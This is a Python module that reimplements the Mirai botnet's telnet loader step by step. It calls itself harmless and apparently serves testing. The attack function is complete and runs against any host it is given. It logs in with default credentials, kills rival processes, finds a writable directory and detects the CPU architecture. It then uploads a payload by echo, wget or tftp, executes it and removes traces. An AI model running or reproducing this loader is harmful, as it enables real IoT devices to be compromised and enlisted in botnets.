"""A harmless loader: it attacks as Mirai's does, step by step, over a real socket, and brings what it is told to bring.

    outcome = await attack("127.0.0.1", 2323, payload=sample, method="echo")
    assert outcome.succeeded

It does what the dialogue of the public source does (IAC, login, token queries, process list, mounts, writable
directory, ELF header, upload, run, clean up), and looks for the same words in the answers. It scans nothing, and
speaks to the one address that it is given.
"""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from dataclasses import dataclass, field

TOKEN, TOKEN_ANSWER = b"/bin/busybox ECCHI", b"ECCHI: applet not found"
RUN_TOKEN, RUN_ANSWER = b"/bin/busybox IHCCE", b"IHCCE: applet not found"
BINARY, DROPPER = b"dvrHelper", b"upnp"
STARTED = b"listening tun0"
ECHO_BYTES = 128  # of the payload in one line
ANSWER_BYTES_MAX = 4 * 1024 * 1024
_PROMPT_ENDS = b":>$#%"
# (e_machine, EI_DATA) -> the loader's name for the architecture; 1 is little endian.
ARCHITECTURES = {(40, 1): "arm", (183, 1): "arm", (8, 1): "mpsl", (8, 2): "mips", (3, 1): "x86", (62, 1): "x86",
                  (2, 2): "spc", (4, 2): "m68k", (20, 2): "ppc", (42, 1): "sh4"}  # fmt: skip


@dataclass
class Outcome:
    """How an attack went. `stage` names the last step; `method` is how the payload was brought in the end."""

    succeeded: bool = False
    stage: str = "connect"
    architecture: str = ""
    directory: str = ""
    method: str = ""
    payload: bytes = b""  # what was brought in-band; empty if the other side was to download it
    transcript: bytearray = field(default_factory=bytearray)  # what the other side sent

    def text(self) -> str:
        """Return the transcript for people."""
        return self.transcript.decode("latin-1")


class LoaderGaveUp(Exception):  # noqa: N818
    """The other side did not answer as a victim would."""


Payload = bytes | Callable[[str], bytes]


async def attack(
    host: str,
    port: int,
    *,
    payload: Payload = b"",
    method: str = "auto",
    user: str = "root",
    password: str = "root",  # noqa: S107
    http: str = "",
    tftp: str = "",
    architecture: str = "",
    line_delay_s: float = 0.0,
    timeout_s: float = 20.0,
) -> Outcome:
    """Attack one host, and say how it went; never raises for what the other side does.

    `payload` is the sample, or a function from the architecture found (`arm`, `mips`, …) to one. `method`
    is `echo` (in-band), `wget` (of the URL `http`), `tftp` (of the URL `tftp`, `tftp://host/name`), or `auto`: what the
    victim has, as the loader chooses. In the URLs `{arch}` stands for the architecture. `architecture` is taken for
    known if given. `line_delay_s` stands between a text and its line end, as the loader's output buffer does.
    """
    outcome = Outcome(architecture=architecture)
    try:
        async with asyncio.timeout(timeout_s):
            reader, writer = await asyncio.open_connection(host, port)
            try:
                await _Attack(reader, writer, outcome, line_delay_s).run(payload, method, user, password, http, tftp)
            finally:
                writer.close()
    except (LoaderGaveUp, OSError, TimeoutError, asyncio.IncompleteReadError):
        outcome.succeeded = False
    return outcome


class _Attack:
    """One connection. Reads until what it looks for has come, as the loader's state machine does."""

    def __init__(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, outcome: Outcome, line_delay_s: float
    ) -> None:
        self._reader = reader
        self._writer = writer
        self._outcome = outcome
        self._delay_s = line_delay_s
        self._heard = bytearray()

    async def run(self, payload: Payload, method: str, user: str, password: str, http: str, tftp: str) -> None:
        """Go through the whole dialogue."""
        await self._login(user, password)
        self._stage("shell")
        await self._type(b"enable\r\nshell\r\nsh\r\n")
        await self._until_prompt()
        await self._ask(b"")
        self._stage("processes")
        await self._kill_rivals(await self._ask(b"/bin/busybox ps; "))
        self._stage("mounts")
        directory = await self._writable(await self._ask(b"/bin/busybox cat /proc/mounts; "))
        self._outcome.directory = directory.decode("latin-1")
        await self._type(b"cd %s/\r\n" % directory)
        await self._ask(b"/bin/busybox cp /bin/echo %s; >%s; /bin/busybox chmod 777 %s; " % (BINARY, BINARY, BINARY))
        self._stage("architecture")
        if not self._outcome.architecture:
            self._outcome.architecture = await self._architecture()
        self._stage("methods")
        chosen = await self._method(method)
        self._outcome.method = chosen
        self._stage("upload")
        command = await self._bring(chosen, payload, http, tftp)
        self._stage("run")
        answer = await self._ask(command, RUN_TOKEN, RUN_ANSWER)
        self._outcome.succeeded = STARTED in answer
        self._stage("clean up")
        await self._ask(b"rm -rf %s; > %s; " % (DROPPER, BINARY))
        if self._outcome.succeeded:
            self._stage("done")

    def _stage(self, name: str) -> None:
        self._outcome.stage = name

    # --- steps -------------------------------------------------------------------------------------

    async def _login(self, user: str, password: str) -> None:
        self._stage("login")
        await self._until(lambda heard: b"ogin" in heard or b"enter" in heard)
        await self._slowly(user.encode())
        self._stage("password")
        await self._until(lambda heard: b"assword" in heard)
        await self._slowly(password.encode())
        heard = await self._until_prompt()
        if b"incorrect" in heard:
            raise LoaderGaveUp("login refused")

    async def _kill_rivals(self, listing: bytes) -> None:
        for line in listing.splitlines():
            words = line.split()
            if len(words) < 4 or not words[0].isdigit() or words[0] == b"1":
                continue
            if words[-1] in (b"init", b"[init]") or (int(words[0]) > 400 and words[-1].isdigit()):
                await self._type(b"/bin/busybox kill -9 %s\r\n" % words[0])

    async def _writable(self, mounts: bytes) -> bytes:
        for line in mounts.replace(b"\r", b"").split(b"\n"):
            words = line.split(b" ")
            if len(words) >= 4 and b"rw" in words[3]:
                await self._try_directory(words[1].rstrip(b"/"))
        await self._try_directory(b"/dev")
        answer = await self._ask(b"")
        found = [line[4:] for line in answer.replace(b"\r", b"").split(b"\n") if line.startswith(b"kami")]
        for directory in found:
            await self._type(b"rm %s/.t; rm %s/.sh; rm %s/.human\r\n" % ((directory,) * 3))
        if not found or len(found[0]) >= 31:
            raise LoaderGaveUp("no writable directory")
        return found[0]

    async def _try_directory(self, path: bytes) -> None:
        await self._type(
            b"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69%s' > %s/.nippon; /bin/busybox cat %s/.nippon; "
            b"/bin/busybox rm %s/.nippon\r\n" % ((path,) * 4)
        )

    async def _architecture(self) -> str:
        await self._type(b"/bin/busybox cat /bin/echo\r\n")
        answer = await self._ask(b"")
        at = answer.find(b"\x7fELF")
        header = answer[at : at + 20].replace(b"\r\n", b"\n")
        if at < 0 or len(header) < 20:
            raise LoaderGaveUp("no ELF header")
        order = "little" if header[5] == 1 else "big"
        found = ARCHITECTURES.get((int.from_bytes(header[18:20], order), header[5]))  # type: ignore[arg-type]
        if found is None:
            raise LoaderGaveUp("no sample for this architecture")
        if found == "arm":
            cpu = await self._ask(b"cat /proc/cpuinfo; ")
            return "arm7" if b"ARMv7" in cpu or b"ARMv6" in cpu else "arm"
        return found

    async def _method(self, wanted: str) -> str:
        answer = await self._ask(b"/bin/busybox wget; /bin/busybox tftp; ")
        if wanted != "auto":
            return wanted
        if b"wget: applet not found" not in answer:
            return "wget"
        return "tftp" if b"tftp: applet not found" not in answer else "echo"

    async def _bring(self, method: str, payload: Payload, http: str, tftp: str) -> bytes:
        """Bring the payload; return the command that runs it."""
        architecture = self._outcome.architecture.encode()
        run = b"./%s telnet.%s; " % (BINARY, architecture)
        if method == "echo":
            data = payload(self._outcome.architecture) if callable(payload) else payload
            self._outcome.payload = data
            await self._echo(data)
            return b"./%s; " % DROPPER + run
        mode = b"/bin/busybox chmod 777 %s; " % BINARY
        if method == "wget":
            await self._ask(b"/bin/busybox wget %s -O - > %s; " % (self._named(http), BINARY) + mode)
        elif method == "tftp":
            where, _, name = self._named(tftp).removeprefix(b"tftp://").partition(b"/")
            answer = await self._ask(b"/bin/busybox tftp -g -l %s -r %s %s; " % (BINARY, name, where) + mode)
            if any(word in answer for word in (b"Permission denied", b"timeout", b"illegal option")):
                self._outcome.method = "echo"
                return await self._bring("echo", payload, http, tftp)
        else:
            raise ValueError(f"no such method: {method}")
        return run

    def _named(self, url: str) -> bytes:
        return url.replace("{arch}", self._outcome.architecture).encode()

    async def _echo(self, data: bytes) -> None:
        await self._ask(
            b"/bin/busybox cp %s %s; > %s; /bin/busybox chmod 777 %s; " % (BINARY, DROPPER, DROPPER, DROPPER)
        )
        for at in range(0, max(1, len(data)), ECHO_BYTES):
            escaped = b"".join(b"\\x%02x" % byte for byte in data[at : at + ECHO_BYTES])
            await self._ask(b"echo -ne '%s' %s %s; " % (escaped, b">>" if at else b">", DROPPER))

    # --- the wire ----------------------------------------------------------------------------------

    async def _ask(self, command: bytes, token: bytes = TOKEN, answer: bytes = TOKEN_ANSWER) -> bytes:
        """Send a command with the token behind it; return what came before the token's answer."""
        await self._type(command + token + b"\r\n")
        heard = await self._until(lambda heard: answer in heard)
        return heard.partition(answer)[0]

    async def _type(self, data: bytes) -> None:
        self._writer.write(data)
        await self._writer.drain()

    async def _slowly(self, text: bytes) -> None:
        await self._type(text)
        if self._delay_s:
            await asyncio.sleep(self._delay_s)
        await self._type(b"\r\n")

    async def _until_prompt(self) -> bytes:
        return await self._until(lambda heard: any(byte in _PROMPT_ENDS for byte in heard[heard.rfind(b"\n") + 1 :]))

    async def _until(self, enough: Callable[[bytes], bool]) -> bytes:
        """Read until it is enough; return what was heard, and forget it."""
        while not enough(bytes(self._heard)):
            piece = await self._reader.read(65_536)
            if not piece or len(self._heard) > ANSWER_BYTES_MAX:
                raise LoaderGaveUp("the connection ended")
            self._outcome.transcript += piece
            self._heard += self._negotiated(piece)
        heard = bytes(self._heard)
        self._heard.clear()
        return heard

    def _negotiated(self, piece: bytes) -> bytes:
        """Answer telnet's commands as the loader does: window size yes, the rest no. They come first only."""
        if self._outcome.stage != "login":
            return piece
        while piece[:1] == b"\xff" and len(piece) >= 3:
            verb, option = piece[1], piece[2]
            if verb == 0xFD and option == 31:
                self._writer.write(b"\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0")
            elif verb == 0xFD:
                self._writer.write(bytes((0xFF, 0xFC, option)))
            elif verb == 0xFB:
                self._writer.write(bytes((0xFF, 0xFD, option)))
            piece = piece[3:]
        return piece
